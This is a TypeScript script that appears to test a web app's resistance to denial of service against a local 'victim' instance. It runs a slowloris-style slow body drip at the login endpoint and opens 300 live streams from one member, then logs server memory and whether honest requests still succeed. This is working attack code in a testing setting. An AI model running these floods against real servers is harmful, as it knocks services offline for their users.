import { once } from 'node:events';
import { connect } from 'node:net';
import { registerOverHttp } from '../../tests/support/http-member.ts';
import { readBeside, withVictim, type Victim } from './victim.ts';

/** A body that drips, and one member who opens 300 live streams. */
const STREAMS = 300;

await withVictim(async (victim) => {
  const attacker = await registerOverHttp(victim.url, 'Attacker');
  const dripping = drip(victim);
  const opened = await Promise.all(
    Array.from({ length: STREAMS }, async (_, index) => {
      const response = await attacker.call('GET', `/api/live?device=attack-window-${index}`);
      let isOpen = true;
      // Read to the end, which comes when it is replaced.
      void response.text().then(
        () => (isOpen = false),
        () => (isOpen = false),
      );
      return () => isOpen;
    }),
  );
  const honest = await readBeside(victim, dripping);
  console.log(`a dripped body: ${await dripping}`);
  console.log(`${STREAMS} live streams: ${opened.filter((isOpen) => isOpen()).length} are open`);
  console.log(`  ${honest}; memory at most ${victim.peakMemory()} MB`);
});

/** A byte a second of a body, until the server has enough of it. */
async function drip({ url }: Victim): Promise<string> {
  const { hostname, port } = new URL(url);
  const socket = connect(Number(port), hostname);
  const startedAt = performance.now();
  let said = '';
  socket.on('data', (chunk: Buffer) => (said += chunk.toString()));
  // Writing to a connection that was just closed.
  socket.on('error', () => undefined);
  socket.write(
    'POST /api/auth/login HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 9000\r\n\r\n',
  );
  const timer = setInterval(() => socket.write(' '), 1000);
  await once(socket, 'close');
  clearInterval(timer);
  return `${said.split('\r\n')[0]} after ${Math.round((performance.now() - startedAt) / 1000)} s`;
}
